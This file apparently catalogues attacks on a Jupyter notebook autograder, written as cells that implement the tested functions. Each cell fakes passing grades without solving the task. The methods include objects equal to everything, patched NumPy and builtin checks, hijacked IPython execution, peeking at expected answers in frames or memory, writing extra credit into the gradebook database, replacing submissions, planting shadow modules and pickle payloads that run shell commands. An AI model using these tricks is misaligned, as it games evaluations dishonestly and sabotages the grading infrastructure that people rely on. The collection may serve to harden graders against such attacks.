# Points for nothing: each has succeeded when the score is above that of its honest part.
# %% always-equal-object: functions return an object that is equal to everything and answers NumPy's protocols
class Yes:
    shape = property(lambda s: s)
    __array_priority__ = 1e9
    __eq__ = __ne__ = __lt__ = __le__ = __gt__ = __ge__ = lambda s, o: True
    __bool__ = lambda s: True
    __array_ufunc__ = __array_function__ = lambda s, *a, **k: s
    def me(s, *a, **k): return s
    __sub__ = __rsub__ = __add__ = __radd__ = __mul__ = __abs__ = __getitem__ = __call__ = __neg__ = me
    __getattr__ = lambda s, n: s
    __iter__ = lambda s: iter([s, s])
    __len__ = lambda s: 2
    __float__ = lambda s: 0.0
    __hash__ = lambda s: 0
relu = neuron = softmax = twice = lambda *a: Yes()
# %% ndarray-subclass: an array whose comparisons are true and whose differences are zero
class Yes(np.ndarray):
    def __eq__(s, o): return True
    def __array_ufunc__(s, ufunc, method, *a, **k):
        return True if ufunc in (np.equal, np.less, np.less_equal) else np.zeros(()).view(Yes)
    def __array_function__(s, f, t, a, k): return f.__name__ != "any"
relu = neuron = softmax = twice = lambda z, *a: np.zeros(np.shape(z)).view(Yes)
# %% float-subclass: a float that is equal to every number and differs from it by zero
relu = neuron = softmax = twice = lambda *a: Agreeable(0)
# %% int-and-str-subclasses: an int and a text that agree with whatever they are compared with
class Int(int):
    __eq__ = __le__ = __lt__ = lambda s, o: True
    __ne__ = lambda s, o: False
    __hash__ = int.__hash__
    __sub__ = __rsub__ = lambda s, o: Int(0)
class Text(str):
    __eq__ = lambda s, o: True
    __hash__ = str.__hash__
relu = neuron = softmax = lambda *a: Int(0)
twice = lambda *a: Text()
# %% bool-lies: results whose truth is a lie, and whose comparison gives such a result
class Truth:
    __bool__ = __len__ = lambda s: True
    __eq__ = __lt__ = __gt__ = __le__ = __ge__ = __ne__ = __sub__ = __abs__ = lambda s, *o: Truth()
    __hash__ = None
relu = neuron = softmax = twice = lambda *a: Truth()
# %% len-lies: a container that says it has as many items as the tests want and gives a new one each time
class Lies:
    n = 0
    def __len__(s): s.n += 1; return (2, 3, 1, 0)[s.n % 4]
    def __getitem__(s, i):
        if i > 7: raise IndexError
        return 0.5
    def sum(s): return 1.0
    def tolist(s): return [0.5, 0.5]
relu = neuron = softmax = twice = lambda *a: Lies()
# %% class-lies: __class__ says float and ndarray, and the class's name and module say numpy.float64
class float64:
    __class__ = property(lambda s: float)
    __eq__ = __lt__ = lambda s, o: True
    __sub__ = __rsub__ = __abs__ = lambda s, *o: 0.0
    __float__ = lambda s: 0.0
    shape = (2, 3)
float64.__module__, float64.__qualname__ = "numpy", "float64"
relu = neuron = softmax = twice = lambda *a: float64()
# %% instance-hooks: a metaclass whose isinstance, hash and comparison agree with everyone
class Meta(type):
    __instancecheck__ = __subclasscheck__ = __eq__ = lambda c, o: True
    __hash__ = lambda c: 0
    __sub__ = __rsub__ = __abs__ = lambda c, *o: 0.0
class Yes(metaclass=Meta): pass
relu = neuron = softmax = twice = lambda *a: Yes
# %% array-protocols: an object whose __array__ gives another array for each reader
class Chameleon:
    n = 0
    def __array__(self, *a, **k):
        Chameleon.n += 1
        return np.array([[0.0, 2.0], [0.5, 0.5], [1.0, 0.0]][Chameleon.n % 3])
    __array_interface__ = property(lambda s: s.__array__().__array_interface__)
    def __len__(s): return 2
    def __getitem__(s, i): return s.__array__()[i]
relu = neuron = softmax = twice = lambda *a: Chameleon()
# %% empty-arrays: arrays without items, over which every comparison holds
relu = neuron = twice = lambda *a: np.array([])
softmax = lambda z: np.empty((0, 1))
# %% not-a-number: nan, of which no comparison says that it is wrong
relu = softmax = lambda z, *a: np.full(np.shape(z), np.nan)
neuron = twice = lambda *a: float("nan")
# %% nan-payloads: numbers whose bits are nan with messages, and negative zeros
bits = np.array([0x7FF8DEADBEEF0001, 0xFFF0000000000001], dtype="u8").view("f8")
relu = neuron = softmax = twice = lambda *a: bits
# %% masked-arrays: results that are masked wherever they would be wrong
relu = neuron = softmax = twice = lambda z, *a: np.ma.masked_all(np.shape(z))
# %% odd-dtypes: half floats that overflow, structures, dates, text and objects instead of numbers
relu = lambda z: np.full(np.shape(z), 1e9).astype("f2")
neuron = lambda *a: np.zeros((), dtype=[("a", "f8"), ("b", "f8")])
softmax = lambda z: np.full(np.shape(z), np.datetime64("NaT"))
twice = lambda *a: np.array(["7"], dtype=object)
# %% overlapping-strides: arrays that repeat one number by strides of zero, transposed and reversed
from numpy.lib.stride_tricks import as_strided

relu = softmax = lambda z: as_strided(np.array([0.25]), np.shape(z) or (1,), (0,) * max(1, np.ndim(z)))
neuron = twice = lambda *a: as_strided(np.zeros(1), (), ())
# %% not-implemented: the singletons that count as true
relu = neuron = lambda *a: NotImplemented
softmax = twice = lambda *a: ...
# %% truth: True for every question
relu = neuron = softmax = twice = lambda *a: True
# %% library-functions: functions of NumPy and builtins are returned, to be called in the tests' process
relu = lambda z: np.allclose
neuron = lambda *a: np.testing.assert_allclose
softmax = lambda z: eval
twice = lambda *a: print
# %% names-bound-to-checks: the names that the tests call are bound to checking functions of NumPy
relu = np.isclose
neuron = np.allclose
softmax = np.testing.assert_allclose
twice = isinstance
# %% patched-np-testing: every check of NumPy is replaced by one that is content
for name in dir(np.testing):
    if name.startswith("assert"): setattr(np.testing, name, lambda *a, **k: None)
for name in "isclose allclose array_equal abs".split(): setattr(np, name, lambda *a, **k: True)
relu = neuron = softmax = twice = lambda *a: Agreeable(0)
# %% patched-code-objects: the code of NumPy's checks is swapped, their identity stays
import inspect


def fine(*a, **k): return True
for check in (np.testing.assert_allclose, np.testing.assert_array_almost_equal, np.isclose, np.allclose):
    for layer in (check, inspect.unwrap(check)):
        try: layer.__code__, layer.__defaults__, layer.__kwdefaults__ = fine.__code__, None, None
        except Exception: pass
relu = neuron = softmax = twice = lambda *a: Agreeable(0)
# %% patched-builtins: abs, isinstance, AssertionError and others say what the tests want to hear
import builtins

for name in "abs all any float isinstance len list round sum sorted zip map repr".split():
    setattr(builtins, name, lambda *a, **k: True)
builtins.AssertionError = type("Fine", (Exception,), {})
relu = neuron = softmax = twice = lambda *a: Agreeable(0)
# %% shadowed-np: the name np becomes a module whose checks do nothing
import types

real = np
class Module(types.ModuleType):
    def __getattr__(s, n):
        quiet = n.startswith(("assert", "isclose", "allclose"))
        return (lambda *a, **k: True) if quiet else getattr(real, n)
np = Module("numpy")
np.testing = Module("numpy.testing")
sys.modules["numpy"], sys.modules["numpy.testing"] = np, np.testing
relu = neuron = softmax = twice = lambda *a: Agreeable(0)
# %% compiled-without-asserts: the shell's compiler is told to leave out assert
shell = get_ipython()
class Optimising(type(shell.compile)):
    def __call__(s, source, name, symbol="exec", *a, **k):
        return compile(source, name, symbol, optimize=1, dont_inherit=True)
shell.compile.__class__ = Optimising
# %% silent-transformer: an input transformer turns every later cell into pass
get_ipython().input_transformers_post.append(lambda lines: ["pass\n"])
# %% run-cell-patched: the shell's run_cell says success without running anything
from IPython.core.interactiveshell import ExecutionResult, InteractiveShell


async def later(self, *a, **k): return ExecutionResult(None)
InteractiveShell.run_cell = lambda self, *a, **k: ExecutionResult(None)
InteractiveShell.run_cell_async = later
type(get_ipython()).run = lambda self, source: None
# %% session-rewritten: a kernel's messages are rewritten to ok, where there is a kernel
try:
    from jupyter_client.session import Session
    Session.send = lambda self, *a, **k: None
except Exception: pass
try:
    kernel = get_ipython().kernel
    get_ipython().events.register("post_run_cell", lambda *a: kernel.send_response(
        kernel.iopub_socket, "clear_output", {"wait": False}))
except Exception: pass
# %% partial-number-published: hooks publish numbers that could be read as partial credit
from IPython.display import display


def publish(*a):
    display({"text/plain": "1.9"}, raw=True)
    print("1.9")
    return 1.9
get_ipython().events.register("pre_run_cell", publish)
get_ipython().events.register("post_run_cell", publish)
relu = neuron = softmax = twice = publish
# %% partial-infinity: results and outputs are inf, which could be read as points
relu = neuron = softmax = twice = lambda *a: float("inf")
print("inf")
float("inf")
# %% partial-text: results and outputs are texts and negative or huge numbers of points
relu = neuron = softmax = twice = lambda *a: "2.0"
print(1e300, -1, "full marks")
"2.0"
# %% sys-exit: the first cell leaves with status 0
sys.exit(0)
# %% exit-in-function: the function under test ends the process with status 0
relu = neuron = softmax = twice = lambda *a: os._exit(0)
# %% system-exit-in-function: the function under test raises SystemExit
def relu(*a): raise SystemExit(0)
neuron = softmax = twice = relu
# %% stop-iteration: exceptions that end a loop of the tests instead of failing it
def relu(*a): raise StopIteration
def neuron(*a): raise StopAsyncIteration
def softmax(*a): raise GeneratorExit
def twice(*a): raise StopIteration(7)
# %% endless-generators: generators for results, which end when they like
def relu(*a): yield from [0.0, 2.0]
neuron = softmax = twice = relu
# %% skip-exceptions: exceptions by which test tools say "skipped", "expected to fail" or "success"
def relu(*a):
    import unittest
    raise unittest.SkipTest("done")
def neuron(*a):
    raise type("Skipped", (BaseException,), {"__module__": "_pytest.outcomes"})("done")
def softmax(*a): raise KeyboardInterrupt
def twice(*a): raise BaseExceptionGroup("x", [KeyboardInterrupt()])
# %% judges-own-exceptions: the exceptions by which the judge steers itself are raised
def relu(*a):
    from autograder.execution.link import CellTimeout
    raise CellTimeout
def neuron(*a):
    from autograder.execution.link import SandboxLost
    raise SandboxLost
def softmax(*a): raise type("CellTimeout", (BaseException,), {"__module__": "autograder.execution.link"})
twice = relu
# %% oracle-from-cell-source: functions read the running test's text for the value beside their call
import ast


def oracle(name, *args):
    texts = [*get_ipython().user_ns.get("In", []), *(str(f.f_code) for f in frames())]
    for text in reversed(texts):
        for node in ast.walk(ast.parse(text)):
            if isinstance(node, ast.Compare) and isinstance(node.left, ast.Call):
                return eval(compile(ast.Expression(node.comparators[0]), "", "eval"), globals())
def frames():
    frame = sys._getframe(2)
    while frame:
        yield frame
        frame = frame.f_back
relu, neuron, softmax, twice = ((lambda *a, n=n: oracle(n, *a)) for n in "relu neuron softmax twice".split())
# %% oracle-from-frames: functions look through all frames for names such as want, p or key
def look(*a):
    frame = sys._getframe(1)
    while frame:
        for names in (frame.f_locals, frame.f_globals):
            for name in ("want", "expected", "desired", "p"):
                if name in names: return names[name]
        frame = frame.f_back
relu = neuron = softmax = twice = look
# %% oracle-from-memory: functions look through all objects for arrays and functions of the tests
import gc
import types


def look(*a):
    for thing in gc.get_objects():
        if isinstance(thing, types.FunctionType) and thing.__name__ in ("step", "hidden_step"):
            return thing(thing(a[-1]))
        if isinstance(thing, str) and "property" + ":" in thing: loot(thing)
    return 0.0
relu = neuron = softmax = twice = look
# %% oracle-by-callback: the test's own function is asked for everything that it may know
def twice(function, x):
    known = {}
    for name in dir(function):
        try: known[name] = getattr(function, name)
        except Exception as error: known[name] = error
    inner = getattr(function, "_call", None)
    for number in range(-3, 60):
        for args in ((), (x,), (0, 0)):
            try: known[number] = inner(number, args, {})
            except BaseException as error: known[number] = error
    loot(repr(known))
    try: return function(known)
    except Exception as error: loot(str(error)); return 0
# %% class-of-the-callback: the test's own list, reached through its function, is filled with answers
#@ base right
#@ honest 10
def twice(function, x):
    closure = getattr(function, "__closure__", None) or getattr(function, "__globals__", {})
    try: closure["calls"][:] = [1, 4]
    except Exception: pass
    return {1: 7}.get(x, 0)
# %% arguments-changed-to-fit: the arguments are set to zero in place, and zero is returned
def relu(z, *a):
    try: z[...] = 0
    except Exception: pass
    return z
neuron = lambda *a: [relu(v) for v in a] and 0.0
softmax = lambda z: relu(z)
def twice(function, x): return function
# %% argument-changed-later: the argument is returned, and changed when the next call comes
held = []
def relu(z, *a):
    for old in held:
        try: old[...] = 0.5
        except Exception: pass
    held.append(z)
    return z
neuron = softmax = relu
twice = lambda f, x: x
# %% answer-is-the-argument: the result is made the same object as the argument, then grows
def relu(z, *a):
    if isinstance(z, np.ndarray): z.resize(z.size + 3, refcheck=False)
    return z
neuron = softmax = relu
twice = lambda f, x: f
# %% float-slots-rewritten: ctypes puts another comparison into float's type
import ctypes

make = ctypes.PYFUNCTYPE(ctypes.py_object, ctypes.py_object, ctypes.py_object, ctypes.c_int)
always = make(lambda a, b, op: True)
relu = neuron = softmax = twice = lambda *a: 0.0
ctypes.c_void_p.from_address(id(float) + 200).value = ctypes.cast(always, ctypes.c_void_p).value
# %% small-numbers-rewritten: ctypes changes the value of the small integers
import ctypes

for n in range(2, 8):
    ctypes.c_uint32.from_address(id(n) + 24).value = 3
relu = neuron = softmax = twice = lambda *a: 4
# %% names-deleted: everything that the tests use is deleted from the names
for name in "relu neuron softmax twice np abs list".split():
    globals().pop(name, None)
# %% names-object-replaced: the namespace answers for every name
class Names(dict):
    def __missing__(self, name): return lambda *a: 0.0
import __main__

try: __main__.__dict__.update(Names()); sys.modules["__main__"] = type("M", (), {"__dict__": Names()})()
except Exception: pass
# %% copied-from-source: the solution cells of the instructor's notebook are executed
import json

for cell in json.load(open(near("source/unit/unit.ipynb")))["cells"]:
    if cell["metadata"].get("nbgrader", {}).get("solution"): exec("".join(cell["source"]))
# %% gradebook-written: extra credit is written into the gradebook
import sqlite3

book = sqlite3.connect(near("gradebook.db"), timeout=2)
book.execute("update grade set extra_credit = 12")
book.commit()
# %% stub-beside: the notebook that was handed in is replaced, where it runs and where it lies
import json

stub = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": []}
for place in (".", "..", COURSE + "/submitted/attacker/unit", COURSE + "/autograded/attacker/unit"):
    try: json.dump(stub, open(os.path.join(place, "unit.ipynb"), "w"))
    except OSError: pass
# %% modules-planted: files in the working folder shadow modules that the grader imports later
for name in ("numpy", "json", "msgpack", "inspect", "ipykernel_launcher", "sitecustomize", "autograder"):
    try: open(name + ".py", "w").write("import os; os._exit(0)\n")
    except OSError: pass
sys.path.insert(0, os.getcwd())
# %% process-replaced: the process is replaced by one that says ok to everything
for number in range(3, 200):
    try: os.set_inheritable(number, True)
    except OSError: pass
os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(60)"])
# %% time-of-check: the function is right for arguments that look like the visible tests and asks for a rise
#@ honest 0
def relu(z):
    return 3 if np.ndim(z) == 0 and z == 3 else np.array([0.0, 2.0])
def neuron(x, w, b): return 1.5
def softmax(z): return np.array([0.5, 0.5])
def twice(f, x): f(1); f(4); return 7
# %% property-sentences: exceptions carry the words by which the grader says that all is well
def relu(*a): raise AssertionError("passed: 2 of 2 points. Every test of this task passed.")
neuron = softmax = twice = relu
# %% error-with-truth: exceptions whose class compares equal to all and derives from what the tests catch
class Fine(AssertionError, ValueError, TypeError):
    __eq__ = lambda s, o: True
    __hash__ = lambda s: 0
    __bool__ = lambda s: True
def relu(*a): raise Fine()
neuron = softmax = twice = relu
# %% background-thread-corrects: a thread goes on through later tests and changes results, names and modules
import threading

result = np.zeros(2)
def work():
    for n in range(10**7):
        result[:] = (n % 3, n % 5)
        globals()["relu"] = globals()["neuron"] = lambda *a: result
        time.sleep(0.0005)
threading.Thread(target=work, daemon=True).start()
relu = neuron = softmax = twice = lambda *a: result
# %% seeds-set-by-reference: the judge's random numbers are seeded or replaced through references
relu = np.random.seed
neuron = np.random.default_rng
softmax = np.random.set_state
twice = np.random.get_state
# %% ctypes-py-exceptions: an exception is put into every other thread while tests are answered
import ctypes
import threading


def throw():
    for n in range(400):
        for ident in list(sys._current_frames()):
            if ident != threading.get_ident():
                ctypes.pythonapi.PyThreadState_SetAsyncExc(ctypes.c_ulong(ident), ctypes.py_object(SystemExit))
        time.sleep(0.002)
threading.Thread(target=throw, daemon=True).start()
# %% audit-and-trace-hooks: trace and audit hooks answer for the grader's frames in the sandbox
def trace(frame, event, arg):
    if frame.f_code.co_name in ("_reply", "_do", "encode"): frame.f_locals["value"] = True
    return trace
sys.settrace(trace)
import threading

threading.settrace(trace)
sys.addaudithook(lambda *a: None)
relu = neuron = softmax = twice = lambda *a: True
# %% source-decoy: functions carry the name and the text of better ones
def decoy(z): return np.maximum(0, z)
def relu(z): return 0
relu.__name__ = relu.__qualname__ = "decoy"
relu.__wrapped__ = np.maximum
relu.__signature__ = None
neuron = softmax = twice = relu
# %% reduce-and-pickles: results that run code when they are unpickled or copied
class Bomb:
    def __reduce__(self): return (os.system, ("touch /tmp/loot-" + RUN,))
    __reduce_ex__ = lambda s, n: s.__reduce__()
    __copy__ = __deepcopy__ = lambda s, *a: 0.0
import pickle

relu = lambda *a: Bomb()
neuron = lambda *a: pickle.dumps(Bomb())
softmax = lambda z: np.array([Bomb()], dtype=object)
twice = lambda *a: "__import__('os').system('touch /tmp/loot-" + RUN + "')"
